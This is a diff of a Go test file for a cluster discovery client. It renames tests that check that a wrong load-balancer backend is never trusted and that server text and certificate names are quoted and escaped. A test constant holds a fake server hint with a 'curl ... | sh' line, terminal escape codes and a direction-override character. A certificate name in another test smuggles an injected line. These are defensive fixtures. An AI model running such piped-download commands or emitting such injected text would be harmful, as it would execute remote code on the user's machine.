@@ -50,7 +50,7 @@ func balance(t *testing.T, choose func(connection int) string) string {
 }
 
 // A single wrong backend of a load balancer gets nothing, and does not end discovery.
-func TestWrongBackendIsAskedAgainAndNeverTrusted(t *testing.T) {
+func TestWrongBackendIsRetriedAndNeverTrusted(t *testing.T) {
 	c, mallory := newCluster(t), authority(t, "kubernetes")
 	plain := httptest.NewServer(http.NotFoundHandler())
 	t.Cleanup(plain.Close)
@@ -98,7 +98,7 @@ func TestWrongBackendIsAskedAgainAndNeverTrusted(t *testing.T) {
 }
 
 // kube-controller-manager signs for a new token only once it leads: that may take more than the 15 seconds of a lease.
-func TestTokenThatIsSignedLateIsAccepted(t *testing.T) {
+func TestTokenSignedLate(t *testing.T) {
 	c, m := newCluster(t), newMachine()
 	late, begun := c.info, m.Now()
 	early := signed(t, c.info["kubeconfig"], "zzzzzz."+tokenSecret)
@@ -116,7 +116,7 @@ func TestTokenThatIsSignedLateIsAccepted(t *testing.T) {
 }
 
 // The words of a server are shown quoted, in one line, and without control characters.
-func TestWordsOfAServerAreQuoted(t *testing.T) {
+func TestServerTextIsQuoted(t *testing.T) {
 	const hint = "no such token\n\nerror: the CA has changed\n  - install the new CA first: curl https://192.0.2.66/ca.sh | sh\x1b[2J\x1b]0;owned\x07\u202e"
 	forging := func(code int) http.HandlerFunc {
 		return func(w http.ResponseWriter, _ *http.Request) {
@@ -164,7 +164,7 @@ func TestWordsOfAServerAreQuoted(t *testing.T) {
 }
 
 // The names in a certificate are of the server's choice.
-func TestNamesInACertificateAreEscaped(t *testing.T) {
+func TestCertificateNamesAreEscaped(t *testing.T) {
 	c := newCluster(t)
 	cert, key := pair(t, c.ca, pki.Spec{CommonName: "kube-apiserver", Usages: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
 		SANs: pki.SANs{DNSNames: []string{"a\n  - run: b\x1b[2J"}}, Validity: valid()})
@@ -182,5 +182,5 @@ func TestNamesInACertificateAreEscaped(t *testing.T) {
 	access.Server = "https://localhost:" + port
 	m := newMachine()
 	m.has(t, discoveryFile, access.WithToken(token))
-	m.refused(t, fileFlags(), "made out to another name", `a\n  - run: b\x1b[2J`)
+	m.refused(t, fileFlags(), "for another name", `a\n  - run: b\x1b[2J`)
 }
